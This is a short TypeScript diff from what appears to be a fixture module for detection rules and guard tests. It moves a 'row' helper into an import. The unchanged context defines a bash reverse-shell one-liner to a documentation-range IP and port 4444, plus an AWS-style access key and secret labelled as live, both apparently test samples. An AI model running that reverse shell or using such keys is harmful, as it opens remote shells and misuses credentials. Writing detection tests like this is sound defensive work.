@@ -14,6 +14,7 @@ import {
   ran,
   readOf,
   remembered,
+  row,
   run,
   toolDescription,
   WORKSPACE,
@@ -21,16 +22,6 @@ import {
 
 export const RULES = "detection rules and guard tests";
 export const PROJECT = "project files showing commands and keys";
-
-function row(
-  intent: string,
-  mechanism: string,
-  file: { path: string; content: string },
-  reads: QuotedAttackRow["reads"],
-  twins: QuotedAttackRow["twins"],
-): QuotedAttackRow {
-  return { intent, mechanism, path: file.path, content: file.content, reads, twins };
-}
 
 const REVERSE = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1";
 const LIVE_AWS = "AKIA2E0A8F3B244C9986 / fJ7kX0pQm9Rz2VbT4wYc6Hn8Ld1Ea3Gs5Ku7Io0P";
